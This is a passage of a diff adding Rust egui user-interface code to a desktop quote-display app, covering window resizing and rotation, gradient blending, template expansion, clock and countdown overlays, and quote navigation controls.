+    let mut swap = None;
+    ui.label(
+        RichText::new("Title bar buttons (left to right)")
+            .size(10.5)
+            .color(Color32::from_rgb(140, 200, 255)),
+    );
+    ui.separator();
+    let last = items.len().saturating_sub(1);
+    for (i, item) in items.iter_mut().enumerate() {
+        ui.horizontal(|ui| {
+            if ui
+                .add_enabled(i > 0, egui::Button::new(icons::MOVE_EARLIER.symbol).small())
+                .on_hover_text(icons::MOVE_EARLIER.tooltip)
+                .clicked()
+            {
+                swap = Some((i - 1, i));
+            }
+            if ui
+                .add_enabled(
+                    i < last,
+                    egui::Button::new(icons::MOVE_LATER.symbol).small(),
+                )
+                .on_hover_text(icons::MOVE_LATER.tooltip)
+                .clicked()
+            {
+                swap = Some((i, i + 1));
+            }
+            changed |= ui.checkbox(&mut item.visible, item.group.label()).changed();
+        });
+    }
+    if let Some((a, b)) = swap {
+        items.swap(a, b);
+        changed = true;
+    }
+    ui.separator();
+    if ui.button("Reset to default").clicked() {
+        *items = default_title_bar_items();
+        changed = true;
+        ui.close_menu();
+    }
+    changed
+}
+
+/// Mini mode: just the current main text on the backdrop. Drag anywhere to
+/// move the strip, double-click to go back to the full window.
+fn render_mini_strip(
+    ctx: &Context,
+    state: &mut AppState,
+    window: &Window,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+) {
+    let text = state
+        .current_quote()
+        .map(|q| q.main_text.clone())
+        .unwrap_or_default();
+    let size = (state.text_style.main_text_size * 0.5).clamp(12.0, 28.0);
+    let color = state.text_style.main_text_color;
+    let bg = state.get_background_color();
+
+    egui::CentralPanel::default()
+        .frame(
+            Frame::none()
+                .fill(bg)
+                .inner_margin(egui::Margin::symmetric(12.0, 6.0)),
+        )
+        .show(ctx, |ui| {
+            let strip = ui.interact(
+                ui.max_rect(),
+                window_drag_id("mini_strip"),
+                Sense::click_and_drag(),
+            );
+            if strip.double_clicked() {
+                set_display_mode(window, state, DisplayMode::Normal);
+                return;
+            }
+            if strip.drag_started() {
+                state.cancel_attention_shake();
+                let _ = window.drag_window();
+            }
+
+            ui.centered_and_justified(|ui| {
+                let mut shaped = None;
+                if needs_shaping(&text) {
+                    if let Some((ref mut fs, ref mut sc, ref mut tc)) = shaper {
+                        shaped = render_shaped_text(ctx, fs, sc, &text, size, color, tc);
+                    }
+                }
+                match shaped {
+                    Some((tex_id, tex_size)) => {
+                        add_shaped_text_image(ui, tex_id, tex_size, None, Sense::hover());
+                    }
+                    None => {
+                        ui.add(
+                            egui::Label::new(RichText::new(&text).color(color).size(size))
+                                .truncate(),
+                        );
+                    }
+                }
+            });
+        });
+}
+
+/// Render floating button group (Toggle Panel, Show Header)
+fn render_floating_buttons(ctx: &Context, state: &mut AppState) -> Vec<TitleBarAction> {
+    let mut actions = Vec::new();
+    if state.presentation_mode || state.display_mode == DisplayMode::Mini {
+        return actions;
+    }
+
+    // Auto-hide logic
+    let elapsed = state.last_interaction.elapsed().as_secs_f32();
+    let opacity = if elapsed > 5.0 {
+        1.0 - ((elapsed - 5.0) / 0.5).min(1.0)
+    } else {
+        1.0
+    };
+    // Wake up in time for the fade-out, then animate it
+    if elapsed < 5.0 {
+        ctx.request_repaint_after(Duration::from_secs_f32(5.0 - elapsed));
+    } else if opacity > 0.0 {
+        ctx.request_repaint();
+    }
+    if opacity <= 0.0 {
+        return actions;
+    }
+
+    let accent = state.theme.accent_primary;
+    let fg = ui_fg(&ctx.style().visuals);
+
+    // Fixed position: Just below title bar, right-aligned
+    let screen_rect = ctx.screen_rect();
+    let pos = egui::pos2(screen_rect.right() - 3.0, TITLE_BAR_HEIGHT + 2.0);
+
+    egui::Area::new(egui::Id::new("floating_buttons"))
+        .fixed_pos(pos)
+        .pivot(egui::Align2::RIGHT_TOP)
+        .order(egui::Order::Foreground)
+        .interactable(opacity > 0.0) // Fix: interactable until fully invisible
+        .show(ctx, |ui| {
+            if opacity < 1.0 && opacity > 0.0 {
+                ui.ctx().request_repaint();
+            }
+            ui.vertical(|ui| {
+                ui.spacing_mut().item_spacing = Vec2::new(0.0, 8.0);
+
+                // 1. Toggle Panel Button
+                // Background color changes based on panel visibility
+                let (bg, fg) = if state.title_bar_state.control_panel_visible {
+                    (BTN_ACTIVE_BG, BTN_ACTIVE_FG)
+                } else {
+                    (BTN_NORMAL_BG, fg)
+                };
+
+                let bg = bg.linear_multiply(opacity);
+                let fg = fg.linear_multiply(opacity);
+
+                let (btn_icon, btn_tooltip) = if state.title_bar_state.control_panel_visible {
+                    (&icons::TOGGLE_PANEL, "Hide Panel") // User asked for Sandwich when Visible
+                } else {
+                    (&icons::CLOSE, "Show Panel") // User asked for X when Hidden
+                                                  // Wait, user asked: visible -> ☰, hidden -> ✕.
+                                                  // I will follow specific instruction despite it feeling backwards.
+                                                  // "control_panel_visible == true -> icon = '☰'"
+                                                  // "control_panel_visible == false -> icon = '✕'"
+                };
+
+                // Override user instruction if it implies X opens the menu?
+                // "The ☰ icon changes to ✕ when control panel is hidden".
+                // If I click X (when hidden), it opens.
+                // If I click ☰ (when visible), it closes.
+                // Use icons::CLOSE for X.
+
+                let response = draw_icon_button(
+                    ui,
+                    btn_icon,
+                    bg,
+                    fg,
+                    state.title_bar_state.toggle_panel_btn_hovered,
+                    accent,
+                );
+                state.title_bar_state.toggle_panel_btn_hovered = response.hovered();
+                if !state.pending.is_empty() {
+                    paint_count_badge(ui, response.rect, state.pending.len(), opacity);
+                }
+
+                if response.clicked() {
+                    actions.push(TitleBarAction::TogglePanel);
+                }
+                if opacity > 0.8 {
+                    response.on_hover_text_at_pointer(btn_tooltip);
+                }
+
+                // 2. Show Header Button (only if header is hidden)
+                if !state.title_bar_state.header_visible {
+                    let bg = BTN_NORMAL_BG.linear_multiply(opacity);
+                    let fg = fg.linear_multiply(opacity);
+
+                    let response = draw_icon_button(ui, &icons::SHOW_HEADER, bg, fg, false, accent);
+
+                    if response.clicked() {
+                        actions.push(TitleBarAction::ShowHeader);
+                    }
+                    if opacity > 0.8 {
+                        response.on_hover_text_at_pointer(icons::SHOW_HEADER.tooltip);
+                    }
+                }
+            });
+        });
+
+    actions
+}
+
+// =============================================================================
+// CONTENT ROTATION (the whole frame turns 0°/90°/180°/270°) AND RESIZING
+// =============================================================================
+
+/// How the egui frame sits in the window: laid out upright at `content()`
+/// size, then turned by `angle` and scaled by `scale` about the window
+/// center. An odd number of quarter turns swaps the layout width and height,
+/// so a portrait window gets a portrait layout.
+#[derive(Debug, Clone, Copy)]
+struct ContentRotation {
+    // Window size in points
+    window: Vec2,
+    quarter_turns: u8,
+    angle: f32,
+    scale: f32,
+}
+
+impl ContentRotation {
+    fn content(&self) -> Vec2 {
+        if self.quarter_turns % 2 == 1 {
+            Vec2::new(self.window.y, self.window.x)
+        } else {
+            self.window
+        }
+    }
+
+    /// Upright and full size: drawn straight to the surface
+    fn is_identity(&self) -> bool {
+        let angle = self.angle.rem_euclid(std::f32::consts::TAU);
+        self.quarter_turns.is_multiple_of(4)
+            && angle.min(std::f32::consts::TAU - angle) < 0.0001
+            && (self.scale - 1.0).abs() < 0.0001
+    }
+
+    /// Scale at which the turned layout fits the window at `angle`; 1 once
+    /// the turn is complete
+    fn fit_scale(&self) -> f32 {
+        let (sin, cos) = self.angle.sin_cos();
+        let (sin, cos) = (sin.abs(), cos.abs());
+        let content = self.content();
+        let bounding_w = content.x * cos + content.y * sin;
+        let bounding_h = content.x * sin + content.y * cos;
+        (self.window.x / bounding_w)
+            .min(self.window.y / bounding_h)
+            .min(1.0)
+    }
+
+    fn turn(&self, v: Vec2, angle: f32) -> Vec2 {
+        let (sin, cos) = angle.sin_cos();
+        Vec2::new(v.x * cos - v.y * sin, v.x * sin + v.y * cos)
+    }
+
+    /// Where a layout point shows up in the window
+    fn to_window(self, pos: Pos2) -> Pos2 {
+        let from_center = (pos.to_vec2() - self.content() / 2.0) * self.scale;
+        (self.window / 2.0 + self.turn(from_center, self.angle)).to_pos2()
+    }
+
+    /// The layout point under a window point
+    fn to_content(self, pos: Pos2) -> Pos2 {
+        let from_center = self.turn(pos.to_vec2() - self.window / 2.0, -self.angle);
+        (self.content() / 2.0 + from_center / self.scale.max(0.1)).to_pos2()
+    }
+
+    /// Lay `raw_input` out at the content size and carry pointer positions
+    /// and scroll deltas into it, so clicks land on the widget drawn there
+    fn apply_to_input(&self, raw_input: &mut egui::RawInput) {
+        raw_input.screen_rect = Some(Rect::from_min_size(Pos2::ZERO, self.content()));
+        if self.is_identity() {
+            return;
+        }
+        for event in raw_input.events.iter_mut() {
+            match event {
+                egui::Event::PointerMoved(pos)
+                | egui::Event::PointerButton { pos, .. }
+                | egui::Event::Touch { pos, .. } => *pos = self.to_content(*pos),
+                egui::Event::MouseWheel { delta, .. } => *delta = self.turn(*delta, -self.angle),
+                _ => {}
+            }
+        }
+    }
+}
+
+// Width of the grab strip along each window edge
+const RESIZE_BORDER: f32 = 8.0;
+
+// Strips that move the window when dragged (see `window_drag_id`)
+const WINDOW_DRAG_STRIPS: [&str; 2] = ["title_bar", "mini_strip"];
+
+/// Id of a strip that moves the window when dragged: window chrome rather
+/// than a widget, as far as the resize border is concerned
+fn window_drag_id(name: &str) -> egui::Id {
+    egui::Id::new(("window_drag", name))
+}
+
+/// Whether the widget a click would land on keeps the resize border from
+/// grabbing the pointer: anything clickable but the window drag strips.
+/// Drag-only areas, like a scroll area's background, never get the click.
+fn blocks_resize(click_hit: Option<&egui::WidgetRect>) -> bool {
+    click_hit.is_some_and(|hit| {
+        !WINDOW_DRAG_STRIPS
+            .iter()
+            .any(|name| hit.id == window_drag_id(name))
+    })
+}
+
+/// Which border of the frameless window `pos` grabs, if any. The border
+/// gives way while egui wants the pointer (a widget under it or being
+/// dragged, see `blocks_resize`), so scrollbars and buttons at the edge
+/// keep working.
+fn resize_hit_test(
+    pos: Pos2,
+    screen_rect: Rect,
+    wants_pointer: bool,
+) -> Option<winit::window::ResizeDirection> {
+    use winit::window::ResizeDirection;
+    if !screen_rect.contains(pos) {
+        return None;
+    }
+    let left = pos.x < screen_rect.min.x + RESIZE_BORDER;
+    let right = pos.x > screen_rect.max.x - RESIZE_BORDER;
+    let top = pos.y < screen_rect.min.y + RESIZE_BORDER;
+    let bottom = pos.y > screen_rect.max.y - RESIZE_BORDER;
+    if wants_pointer {
+        return None;
+    }
+    match (top, bottom, left, right) {
+        (true, _, true, _) => Some(ResizeDirection::NorthWest),
+        (true, _, _, true) => Some(ResizeDirection::NorthEast),
+        (_, true, true, _) => Some(ResizeDirection::SouthWest),
+        (_, true, _, true) => Some(ResizeDirection::SouthEast),
+        (true, ..) => Some(ResizeDirection::North),
+        (_, true, ..) => Some(ResizeDirection::South),
+        (_, _, true, _) => Some(ResizeDirection::West),
+        (_, _, _, true) => Some(ResizeDirection::East),
+        _ => None,
+    }
+}
+
+/// Window geometry (x, y, width, height) after dragging the `dir` border by
+/// (`dx`, `dy`) from `start`. The edges opposite the grabbed ones stay put,
+/// `lock_aspect` keeps the start width:height ratio, and the size never
+/// drops below `min`, or 1x1 with no minimum (all physical pixels).
+fn resize_geometry(
+    dir: winit::window::ResizeDirection,
+    start: (i32, i32, u32, u32),
+    (dx, dy): (i32, i32),
+    min: (u32, u32),
+    lock_aspect: bool,
+) -> (i32, i32, u32, u32) {
+    use winit::window::ResizeDirection;
+    let (x, y, w, h) = start;
+    let min = (min.0.max(1), min.1.max(1));
+    let west = matches!(
+        dir,
+        ResizeDirection::West | ResizeDirection::NorthWest | ResizeDirection::SouthWest
+    );
+    let east = matches!(
+        dir,
+        ResizeDirection::East | ResizeDirection::NorthEast | ResizeDirection::SouthEast
+    );
+    let north = matches!(
+        dir,
+        ResizeDirection::North | ResizeDirection::NorthWest | ResizeDirection::NorthEast
+    );
+    let south = matches!(
+        dir,
+        ResizeDirection::South | ResizeDirection::SouthWest | ResizeDirection::SouthEast
+    );
+
+    let dw = if east {
+        dx
+    } else if west {
+        -dx
+    } else {
+        0
+    };
+    let dh = if south {
+        dy
+    } else if north {
+        -dy
+    } else {
+        0
+    };
+    let mut width = (w as f64 + dw as f64).max(1.0);
+    let mut height = (h as f64 + dh as f64).max(1.0);
+
+    if lock_aspect && w > 0 && h > 0 {
+        let ratio = w as f64 / h as f64;
+        // A corner follows whichever axis moved further relative to its size
+        let by_width = (east || west)
+            && (!(north || south)
+                || (width / w as f64 - 1.0).abs() >= (height / h as f64 - 1.0).abs());
+        if by_width {
+            height = width / ratio;
+        } else {
+            width = height * ratio;
+        }
+        // Growing back to the minimum keeps the ratio as well
+        let grow = (min.0 as f64 / width).max(min.1 as f64 / height).max(1.0);
+        width *= grow;
+        height *= grow;
+    }
+
+    let width = (width.round() as u32).max(min.0);
+    let height = (height.round() as u32).max(min.1);
+    let new_x = if west { x + w as i32 - width as i32 } else { x };
+    let new_y = if north {
+        y + h as i32 - height as i32
+    } else {
+        y
+    };
+    (new_x, new_y, width, height)
+}
+
+fn resize_cursor(dir: winit::window::ResizeDirection) -> egui::CursorIcon {
+    use winit::window::ResizeDirection;
+    match dir {
+        ResizeDirection::NorthWest | ResizeDirection::SouthEast => egui::CursorIcon::ResizeNwSe,
+        ResizeDirection::NorthEast | ResizeDirection::SouthWest => egui::CursorIcon::ResizeNeSw,
+        ResizeDirection::North | ResizeDirection::South => egui::CursorIcon::ResizeVertical,
+        ResizeDirection::East | ResizeDirection::West => egui::CursorIcon::ResizeHorizontal,
+    }
+}
+
+// =============================================================================
+// MAIN CONTENT RENDERER
+// =============================================================================
+
+/// Sample a multi-stop gradient at `t` (0..=1), blending in `space`
+fn gradient_color_at(colors: &[Color32], t: f32, space: GradientInterpolation) -> Color32 {
+    if colors.is_empty() {
+        return Color32::TRANSPARENT;
+    }
+    if colors.len() == 1 {
+        return colors[0];
+    }
+
+    let n_segments = (colors.len() - 1) as f32;
+    let scaled_t = t.clamp(0.0, 1.0) * n_segments;
+    let mut index = scaled_t.floor() as usize;
+    index = index.min(colors.len() - 2);
+    let fract = scaled_t - index as f32;
+
+    let c1 = colors[index];
+    let c2 = colors[index + 1];
+
+    if space == GradientInterpolation::Oklab {
+        return lerp_oklab(c1, c2, fract);
+    }
+
+    let r = (c1.r() as f32 * (1.0 - fract) + c2.r() as f32 * fract) as u8;
+    let g = (c1.g() as f32 * (1.0 - fract) + c2.g() as f32 * fract) as u8;
+    let b = (c1.b() as f32 * (1.0 - fract) + c2.b() as f32 * fract) as u8;
+    let a = (c1.a() as f32 * (1.0 - fract) + c2.a() as f32 * fract) as u8;
+
+    Color32::from_rgba_premultiplied(r, g, b, a)
+}
+
+/// Blend two colors through OKLab (via linear sRGB) on their unmultiplied
+/// channels; alpha blends linearly
+fn lerp_oklab(c1: Color32, c2: Color32, t: f32) -> Color32 {
+    let [r1, g1, b1, a1] = c1.to_srgba_unmultiplied();
+    let [r2, g2, b2, a2] = c2.to_srgba_unmultiplied();
+    let (l1, ok_a1, ok_b1) = srgb_to_oklab([r1, g1, b1]);
+    let (l2, ok_a2, ok_b2) = srgb_to_oklab([r2, g2, b2]);
+    let mix = |x: f32, y: f32| x + (y - x) * t;
+    let [r, g, b] = oklab_to_srgb(mix(l1, l2), mix(ok_a1, ok_a2), mix(ok_b1, ok_b2));
+    let a = mix(a1 as f32, a2 as f32).round() as u8;
+    Color32::from_rgba_unmultiplied(r, g, b, a)
+}
+
+fn srgb_to_oklab([r, g, b]: [u8; 3]) -> (f32, f32, f32) {
+    let linear = |v: u8| {
+        let v = v as f32 / 255.0;
+        if v <= 0.04045 {
+            v / 12.92
+        } else {
+            ((v + 0.055) / 1.055).powf(2.4)
+        }
+    };
+    let (r, g, b) = (linear(r), linear(g), linear(b));
+    let l = (0.412_221_46 * r + 0.536_332_55 * g + 0.051_445_995 * b).cbrt();
+    let m = (0.211_903_5 * r + 0.680_699_5 * g + 0.107_396_96 * b).cbrt();
+    let s = (0.088_302_46 * r + 0.281_718_85 * g + 0.629_978_7 * b).cbrt();
+    (
+        0.210_454_26 * l + 0.793_617_8 * m - 0.004_072_047 * s,
+        1.977_998_5 * l - 2.428_592_2 * m + 0.450_593_7 * s,
+        0.025_904_037 * l + 0.782_771_77 * m - 0.808_675_77 * s,
+    )
+}
+
+fn oklab_to_srgb(l: f32, a: f32, b: f32) -> [u8; 3] {
+    let l_ = (l + 0.396_337_78 * a + 0.215_803_76 * b).powi(3);
+    let m_ = (l - 0.105_561_346 * a - 0.063_854_17 * b).powi(3);
+    let s_ = (l - 0.089_484_18 * a - 1.291_485_5 * b).powi(3);
+    let encode = |v: f32| {
+        let v = v.clamp(0.0, 1.0);
+        let v = if v <= 0.003_130_8 {
+            v * 12.92
+        } else {
+            1.055 * v.powf(1.0 / 2.4) - 0.055
+        };
+        (v * 255.0).round() as u8
+    };
+    [
+        encode(4.076_741_7 * l_ - 3.307_711_6 * m_ + 0.230_969_94 * s_),
+        encode(-1.268_438 * l_ + 2.609_757_4 * m_ - 0.341_319_38 * s_),
+        encode(-0.004_196_086_3 * l_ - 0.703_418_6 * m_ + 1.707_614_7 * s_),
+    ]
+}
+
+/// Values a sub text's `{placeholder}`s expand to (see `expand_template`)
+pub struct TemplateContext {
+    pub time: String,
+    pub date: String,
+    pub quote_index: usize,
+    pub session_minutes: u64,
+    pub streak_days: u32,
+}
+
+impl TemplateContext {
+    fn lookup(&self, name: &str) -> Option<String> {
+        match name {
+            "time" => Some(self.time.clone()),
+            "date" => Some(self.date.clone()),
+            "quote_index" => Some(self.quote_index.to_string()),
+            "session_minutes" => Some(self.session_minutes.to_string()),
+            "streak_days" => Some(self.streak_days.to_string()),
+            _ => None,
+        }
+    }
+}
+
+/// Substitute `{name}` placeholders in `template`. `{{` and `}}` are literal
+/// braces; unknown or unclosed placeholders are kept exactly as written.
+fn expand_template(template: &str, ctx: &TemplateContext) -> String {
+    if !template.contains(['{', '}']) {
+        return template.to_string();
+    }
+
+    let mut out = String::with_capacity(template.len());
+    let mut rest = template;
+    while let Some(pos) = rest.find(['{', '}']) {
+        out.push_str(&rest[..pos]);
+        let tail = &rest[pos..];
+        if tail.starts_with("{{") || tail.starts_with("}}") {
+            out.push_str(&tail[..1]);
+            rest = &tail[2..];
+        } else if let Some(after) = tail.strip_prefix('}') {
+            out.push('}');
+            rest = after;
+        } else {
+            // A name runs up to the next brace; a `{` first means this one never closed
+            match tail[1..].find(['{', '}']) {
+                Some(end) if tail.as_bytes()[end + 1] == b'}' => {
+                    let name = &tail[1..end + 1];
+                    match ctx.lookup(name) {
+                        Some(value) => out.push_str(&value),
+                        None => out.push_str(&tail[..end + 2]),
+                    }
+                    rest = &tail[end + 2..];
+                }
+                _ => {
+                    out.push('{');
+                    rest = &tail[1..];
+                }
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// Format a span of seconds as "12d 04:32:11" (days omitted when zero)
+fn format_countdown(total_secs: i64) -> String {
+    let secs = total_secs.unsigned_abs();
+    let days = secs / 86_400;
+    let hours = (secs % 86_400) / 3_600;
+    let minutes = (secs % 3_600) / 60;
+    let seconds = secs % 60;
+    if days > 0 {
+        format!("{}d {:02}:{:02}:{:02}", days, hours, minutes, seconds)
+    } else {
+        format!("{:02}:{:02}:{:02}", hours, minutes, seconds)
+    }
+}
+
+/// Paint the clock/date overlay in the configured corner of `rect`
+fn render_clock_overlay(ui: &egui::Ui, rect: Rect, clock: &ClockConfig) {
+    if !clock.enabled {
+        return;
+    }
+
+    let now = chrono::Local::now();
+    let time_fmt = match (clock.use_24h, clock.show_seconds) {
+        (true, true) => "%H:%M:%S",
+        (true, false) => "%H:%M",
+        (false, true) => "%I:%M:%S %p",
+        (false, false) => "%I:%M %p",
+    };
+    let mut text = now.format(time_fmt).to_string();
+    if clock.show_date {
+        text = format!("{}\n{}", text, now.format("%a %d %b %Y"));
+    }
+
+    let (pos, align) = clock.corner.anchor(rect, 12.0);
+    ui.painter().text(
+        pos,
+        align,
+        text,
+        FontId::proportional(clock.size),
+        NEON_CYAN.gamma_multiply(0.85),
+    );
+
+    // Schedule the next redraw at the upcoming second/minute boundary
+    let tick = clock.tick();
+    let into_tick = if clock.show_seconds {
+        Duration::from_millis(now.timestamp_subsec_millis() as u64)
+    } else {
+        Duration::from_secs(now.timestamp() as u64 % 60)
+    };
+    ui.ctx().request_repaint_after(
+        tick.saturating_sub(into_tick)
+            .max(Duration::from_millis(50)),
+    );
+}
+
+/// Swipes on the bare canvas: a sideways drag past SWIPE_QUOTE_DISTANCE goes
+/// to the next (leftward) or previous quote, a downward one past
+/// SWIPE_PANEL_DISTANCE toggles the control panel. Call before anything else
+/// on the canvas so the text and buttons stay on top and keep their clicks;
+/// the strip along the window edge is left to border resizing.
+fn handle_quote_swipe(ui: &mut egui::Ui, state: &mut AppState, canvas: Rect) {
+    let area = canvas.intersect(ui.ctx().screen_rect().shrink(RESIZE_BORDER));
+    let response = ui.interact(area, ui.id().with("quote_swipe"), Sense::drag());
+    if response.drag_started() {
+        state.swipe_drag = Vec2::ZERO;
+    }
+    if response.dragged() {
+        state.swipe_drag += response.drag_delta();
+    }
+    if !response.drag_stopped() {
+        return;
+    }
+
+    let drag = std::mem::take(&mut state.swipe_drag);
+    if drag.x.abs() > SWIPE_QUOTE_DISTANCE && drag.x.abs() > drag.y.abs() {
+        let from = state.current_quote_index;
+        if drag.x < 0.0 {
+            state.next_quote();
+        } else {
+            state.prev_quote();
+        }
+        // The new quote comes in from the side the drag started on
+        if state.current_quote_index != from && !state.still_transitions() {
+            state.quote_slide = Some((-drag.x.signum(), Instant::now()));
+        }
+    } else if drag.y > SWIPE_PANEL_DISTANCE && drag.y > drag.x.abs() {
+        state.title_bar_state.control_panel_visible = !state.title_bar_state.control_panel_visible;
+    }
+}
+
+/// How visible the PREV/NEXT buttons are: fading in while the pointer is
+/// over the canvas or the footer below it when they only show on hover
+fn nav_opacity(ctx: &Context, state: &AppState) -> f32 {
+    match state.nav_visibility {
+        NavVisibility::Always => 1.0,
+        NavVisibility::Never => 0.0,
+        NavVisibility::OnHover => {
+            let screen = ctx.screen_rect();
+            let over = ctx.input(|i| i.pointer.hover_pos()).is_some_and(|pos| {
+                state.quote_area.is_some_and(|area| {
+                    Rect::from_min_max(area.min, Pos2::new(area.max.x, screen.max.y)).contains(pos)
+                })
+            });
+            ctx.animate_bool_with_time(egui::Id::new("nav_fade"), over, NAV_FADE_SECS)
+        }
+    }
+}
+
+/// PREV/NEXT as arrows at the left and right edges of the canvas, centered
+/// vertically (NavPosition::Sides)
+fn render_side_nav(ui: &mut egui::Ui, state: &mut AppState, canvas: Rect) {
+    if state.nav_position != NavPosition::Sides || state.presentation_mode {
+        return;
+    }
+    let opacity = nav_opacity(ui.ctx(), state);
+    if opacity <= 0.0 {
+        return;
+    }
+    let accent = state.theme.accents().primary;
+    let edges = canvas.shrink(RESIZE_BORDER + 4.0);
+    let arrows = [
+        (egui::Align2::LEFT_CENTER, "◀", false),
+        (egui::Align2::RIGHT_CENTER, "▶", true),
+    ];
+    for (align, arrow, forward) in arrows {
+        // Dimmed when there is no history to go back through
+        let color = if forward || state.can_go_back() {
+            accent
+        } else {
+            accent.gamma_multiply(0.35)
+        };
+        let rect = align.align_size_within_rect(Vec2::splat(32.0), edges);
+        let button = egui::Button::new(
+            RichText::new(arrow)
+                .size(20.0)
+                .color(color.linear_multiply(opacity)),
+        )
+        .frame(false);
+        let response = ui
+            .add_enabled_ui(state.pinned_quote.is_none(), |ui| ui.put(rect, button))
+            .inner
+            .on_disabled_hover_text("Unpin the quote to change it");
+        if response.clicked() && opacity > NAV_MIN_CLICK_OPACITY {
+            if forward {
+                state.next_quote();
+            } else {
+                state.prev_quote();
+            }
+        }
+    }
+}
+
+/// Pin toggle for the displayed quote, in a free top corner of the canvas
+fn render_pin_button(ui: &mut egui::Ui, state: &mut AppState) {
+    if state.quotes.is_empty() || state.presentation_mode {
+        return;
+    }
+    let corner = if state.clock.enabled && state.clock.corner == ScreenCorner::TopRight {
+        ScreenCorner::TopLeft
+    } else {
+        ScreenCorner::TopRight
+    };
+    let (pos, align) = corner.anchor(ui.max_rect(), 8.0);
+    let rect = align.anchor_size(pos, Vec2::splat(22.0));
+
+    let pinned = state.pinned_quote.is_some();
+    let color = if pinned {
+        NEON_SOLAR
+    } else {
+        state.theme.accents().primary.gamma_multiply(0.35)
+    };
+    let resp = ui
+        .put(
+            rect,
+            egui::Button::new(RichText::new("📌").color(color).size(13.0)).frame(false),
+        )
+        .on_hover_text(if pinned {
+            "Unpin: rotation carries on from this quote"
+        } else {
+            "Pin this quote on screen"
+        });
+    if resp.clicked() {
+        state.toggle_pin(state.pinned_quote.unwrap_or(state.current_quote_index));
+    }
+}
+
+/// Render the featured deadline countdown above the quote
+fn render_countdown(ui: &mut egui::Ui, state: &AppState) {
+    let now = chrono::Local::now().naive_local();
+    let Some(deadline) = state.featured_deadline(now) else {
+        return;
+    };
+
+    let remaining = deadline.seconds_remaining(now);
+    let (text, color) = if remaining >= 0 {
+        (
+            format_countdown(remaining),
+            state.text_style.main_text_color,
+        )
+    } else {
+        (
+            format!("elapsed {}", format_countdown(remaining)),
+            NEON_ROSE,
+        )
+    };
+    let size = state.text_style.main_text_size * state.title_bar_state.zoom_level;
+
+    if !deadline.label.is_empty() {
+        ui.label(
+            RichText::new(deadline.label.to_uppercase())
+                .color(color.gamma_multiply(0.7))
+                .size((size * 0.45).max(9.0)),
+        );
+    }
+    ui.label(RichText::new(text).color(color).size(size).strong());
+    ui.add_space(state.text_style.between_gap);
+
+    // Tick once per second, aligned to the wall clock
+    let subsec_ms = chrono::Local::now().timestamp_subsec_millis() as u64;
+    ui.ctx()
+        .request_repaint_after(Duration::from_millis(1000 - subsec_ms.min(999)));
+}
+
+/// How roomy the area a piece of chrome lives in is, by its width
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum LayoutTier {
+    // Below LAYOUT_NARROW_WIDTH: no PREV/NEXT buttons (keys still navigate)
+    Narrow,
+    // Below LAYOUT_COMPACT_WIDTH: no decorative readouts, tighter padding
+    Compact,
+    Full,
+}
+
+impl LayoutTier {
+    fn for_width(width: f32) -> Self {
+        if width < LAYOUT_NARROW_WIDTH {
+            LayoutTier::Narrow
+        } else if width < LAYOUT_COMPACT_WIDTH {
+            LayoutTier::Compact
+        } else {
+            LayoutTier::Full
+        }
+    }
+
+    /// Share of the quote block's full padding (80 above, 40 below) that
+    /// `canvas` gets: all of it when roomy, otherwise less with its height
+    fn padding_scale(self, canvas: Rect) -> f32 {
+        if self == LayoutTier::Full {
+            1.0
+        } else {
+            (canvas.height() / LAYOUT_FULL_PADDING_HEIGHT).clamp(0.2, 1.0)
+        }
+    }
+}
+
+/// Render the main content area with quote display
+pub fn render_main_content(
+    ctx: &Context,
+    state: &mut AppState,
+    shaper: &mut Option<(
+        &mut cosmic_text::FontSystem,
+        &mut cosmic_text::SwashCache,
+        &mut HashMap<u64, egui::TextureHandle>,
+    )>,
+) {
+    // ── SAFE MODE BANNER ────────────────────────────────────
+    if state.safe_mode.is_some() && !state.presentation_mode {
+        egui::TopBottomPanel::top("safe_mode_banner")
+            .frame(
+                egui::Frame::none()
+                    .fill(Color32::from_rgb(90, 60, 0))
+                    .inner_margin(egui::Margin::symmetric(10.0, 4.0)),
+            )
+            .show(ctx, |ui| {
+                ui.horizontal(|ui| {
+                    ui.label(RichText::new("SAFE MODE").strong().color(NEON_SOLAR));
+                    ui.label(
+                        RichText::new(
+                            "Custom fonts, text shaping, the 3D background, window \
+                             animations and always-on-top are off",
+                        )
+                        .color(ui_fg(ui.visuals()))
+                        .size(11.0),
+                    );
+                    if ui.button("Restart normally").clicked() {
+                        state.restart_normally = true;
+                    }
+                });
+            });
+    }
+
+    // ── FOOTER RENDERER ─────────────────────────────────────
+    if state.title_bar_state.header_visible && !state.presentation_mode {
+        egui::TopBottomPanel::bottom("footer_panel")
+            .exact_height(24.0)
+            .frame(egui::Frame::none().fill(Color32::from_black_alpha(20)))
+            .show(ctx, |ui| {
+                // The footer spans the whole window, side panel or not
+                let tier = LayoutTier::for_width(ui.max_rect().width());
+                ui.horizontal(|ui| {
+                    let spacing = if tier == LayoutTier::Full { 12.0 } else { 6.0 };
+                    ui.spacing_mut().item_spacing = egui::Vec2::new(spacing, 0.0);
+                    ui.add_space(10.0);
+
+                    // 1. Navigation
+                    // Dimmed when there is no history to go back through
+                    let accents = state.theme.accents();
+                    let nav_opacity = nav_opacity(ctx, state);
+                    let clickable = nav_opacity > NAV_MIN_CLICK_OPACITY;
+                    let prev_color = if state.can_go_back() {
+                        accents.primary
+                    } else {
+                        accents.primary.gamma_multiply(0.35)
+                    };
+                    // Smaller arrows once space is short
+                    let nav_label = |text: &str, color: Color32| {
+                        let label = RichText::new(text).color(color.linear_multiply(nav_opacity));
+                        if tier == LayoutTier::Full {
+                            label
+                        } else {
+                            label.size(10.0)
+                        }
+                    };
+                    // A pinned quote keeps both disabled until it's unpinned.
+                    // Faded out ("On hover") they keep their place in the row
+                    let unpinned = state.pinned_quote.is_none();
+                    let in_footer = state.nav_visibility != NavVisibility::Never
+                        && state.nav_position == NavPosition::Below;
+                    // 🎲 stays in the footer when the arrows are elsewhere,
+                    // and goes (or fades) with them
+                    let dice_shown = state.nav_visibility != NavVisibility::Never;
+                    if tier > LayoutTier::Narrow && !state.quotes.is_empty() && dice_shown {
+                        ui.add_enabled_ui(unpinned, |ui| {
+                            if in_footer {
+                                if ui
+                                    .small_button(nav_label("◀", prev_color))
+                                    .on_disabled_hover_text("Unpin the quote to change it")
+                                    .clicked()
+                                    && clickable
+                                {
+                                    state.prev_quote();
+                                }
+                                if ui
